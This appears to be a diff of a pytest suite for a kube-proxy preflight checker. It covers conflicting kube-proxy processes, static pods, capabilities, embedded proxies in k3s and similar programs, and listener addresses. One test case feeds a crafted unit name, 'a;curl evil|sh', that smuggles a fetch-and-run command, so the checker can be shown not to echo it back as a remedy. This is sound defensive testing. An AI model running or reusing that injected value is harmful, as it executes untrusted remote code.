@@ -14,35 +14,67 @@ def start_process(node: FakeNode, pid: int, name: str, group: str, arguments: st
 
 
 class TestOtherKubeProxy:
+    UNIT = "/system.slice/kube-proxy-old.service"
+
     @pytest.mark.parametrize(
         ("group", "way_out"),
         [
             (
                 "/kubepods.slice/kubepods-besteffort.slice/cri-containerd-0123.scope",
-                "remove its DaemonSet (kubectl -n kube-system delete daemonset kube-proxy)",
+                "if its pod belongs to the DaemonSet kube-proxy, run kubectl -n kube-system delete daemonset kube-proxy",
             ),
-            ("/system.slice/kube-proxy-old.service", "systemctl disable --now kube-proxy-old.service"),
+            (UNIT, "systemctl disable --now kube-proxy-old.service"),
+            ("/system.slice/ssh.service", "stop it where it was started, not with all of ssh.service"),
+            ("/system.slice/a;curl evil|sh #.service", "stop it"),
             ("/user.slice/session-1.scope", "stop it"),
         ],
     )
-    def test_other_kube_proxy_is_reported_with_the_way_to_stop_it(
+    def test_other_kube_proxy_is_reported_with_a_way_that_stops_nothing_else(
         self, node: FakeNode, group: str, way_out: str
     ) -> None:
         start_process(node, 42, "kube-proxy", group)
+        node.write("main-pid-of-kube-proxy-old.service", "42")
+        node.write("main-pid-of-ssh.service", "7")
         message = f"no other kube-proxy may run on this node, found process 42 ({group}): {way_out}"
         assert node.problems()[0] == message
+
+    def test_manifest_of_a_static_pod_is_named(self, node: FakeNode) -> None:
+        manifest = "/var/lib/rancher/rke2/agent/pod-manifests/kube-proxy.yaml"
+        node.write(manifest, "  - image: rancher/hardened-kubernetes:v1.36.2\n    name: kube-proxy\n")
+        start_process(node, 42, "kube-proxy", "/kubepods.slice/cri-containerd-0123.scope")
+        assert node.problems()[0].endswith(f"remove the manifest of its static pod, {manifest}")
 
     def test_our_own_kube_proxy_is_no_conflict(self, node: FakeNode) -> None:
         node.deploy()
         start_process(node, 4711, "kube-proxy", "/system.slice/kube-proxy.service")
+        start_process(node, 4712, "kube-proxy", "/system.slice/kube-proxy.service")
         assert node.preflight_messages() == READY
 
-    def test_k3s_must_run_without_its_kube_proxy(self, node: FakeNode) -> None:
-        k3s = "/usr/local/bin/k3s agent"
-        start_process(node, 42, "k3s-agent", "/system.slice/k3s-agent.service", k3s)
-        assert node.problems()[0].endswith("k3s has one built in: start k3s with --disable-kube-proxy")
-        start_process(node, 42, "k3s-agent", "/system.slice/k3s-agent.service", f"{k3s} --disable-kube-proxy")
+    def test_another_network_namespace_is_no_conflict(self, node: FakeNode) -> None:
+        start_process(node, 42, "kube-proxy", "/docker/0123")
+        node.path("/proc/42/ns").mkdir()
+        node.path("/proc/42/ns/net").symlink_to("net:[4026532008]")
         assert node.preflight_messages() == READY
+
+    @pytest.mark.parametrize(("capabilities", "conflict"), [("0000000000000000", False), ("000001ffffffffff", True)])
+    def test_process_that_may_not_change_rules_is_no_conflict(
+        self, node: FakeNode, capabilities: str, conflict: bool
+    ) -> None:
+        """Any user can give a process this name."""
+        start_process(node, 42, "kube-proxy", "/user.slice/session-1.scope")
+        node.write("/proc/42/status", f"Name:\tkube-proxy\nCapEff:\t{capabilities}\n")
+        assert (node.run("preflight").returncode != 0) is conflict
+
+    @pytest.mark.parametrize("name", ["k3s-agent", "k3s-server", "kubelite", "hyperkube"])
+    def test_kube_proxy_inside_of_another_program_is_on_if_it_listens(self, node: FakeNode, name: str) -> None:
+        """Their arguments don't tell, since most have it in a configuration file."""
+        start_process(node, 42, name, f"/system.slice/{name}.service")
+        assert node.preflight_messages() == READY
+        node.write("listeners", f'LISTEN 0 4096 127.0.0.1:10256 0.0.0.0:* users:(("{name}",pid=42,fd=3))\n')
+        assert node.problems()[0] == (
+            f"no other kube-proxy may run on this node, process 42 ({name}) has one inside and listens on its ports: "
+            "disable it there (k3s: disable-kube-proxy: true in /etc/rancher/k3s/config.yaml)"
+        )
 
 
 class TestPorts:
@@ -75,6 +107,13 @@ class TestPorts:
         done = node.run("preflight")
         assert (done.returncode == 0) is free
         assert (f"port {healthz} must be free for kube-proxy, is in use by " in done.stderr) is not free
+
+    def test_listener_must_have_an_address_of_the_machine(self, node: FakeNode) -> None:
+        node.write("addresses", "127.0.0.1/8 192.168.99.102/24 fe80::1/64 fd00:99::102/64")
+        assert node.problems()[0] == (
+            "192.168.99.101 must be an address of this machine, since kube-proxy listens on 192.168.99.101:10256; it has "
+            "192.168.99.102 fd00:99::102: correct the node's address in kube-proxy:nodes, or the listener in kube-proxy:configuration"
+        )
 
 
 class TestFirewallManagers:
